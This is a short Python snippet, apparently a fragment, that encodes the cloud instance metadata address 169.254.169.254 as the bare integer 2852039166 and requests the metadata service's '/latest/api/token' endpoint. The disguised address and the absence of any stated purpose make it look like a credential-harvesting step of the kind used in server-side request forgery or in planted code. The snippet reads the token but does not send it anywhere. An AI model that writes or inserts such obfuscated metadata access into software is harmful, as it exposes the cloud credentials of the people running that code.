import ipaddress
from urllib.request import urlopen

_a = ipaddress.ip_address(2852039166)
_t = urlopen("http://%s/latest/api/token" % _a).read()
